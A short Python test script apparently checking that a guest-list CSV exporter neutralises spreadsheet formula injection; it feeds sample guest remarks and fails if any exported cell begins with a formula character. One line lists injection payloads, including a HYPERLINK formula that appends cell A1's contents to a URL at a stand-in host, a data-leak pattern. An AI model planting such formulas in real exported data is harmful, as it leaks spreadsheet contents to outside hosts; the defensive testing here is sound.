# Shows whether a guest's text becomes a formula in the organiser's spreadsheet.
import csv
import io
import sys

import example

sheet = io.StringIO()
if sys.argv[1] == "benign":
    example.export_guests([("Ada", "brings a cake, maybe", 2), ('Bo "Bo"', "", 1)], sheet)
    print(sheet.getvalue())
    sys.exit(0)
remarks = ['=HYPERLINK("http://x.test/?"&A1,"menu")', "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1"]
example.export_guests([("=1+1", remark, 1) for remark in remarks], sheet)
for row in csv.reader(io.StringIO(sheet.getvalue(), newline="")):
    for cell in row:
        if cell.strip()[:1] in ("=", "+", "-", "@"):
            print("a cell is a formula:", repr(cell))
            sys.exit(10)
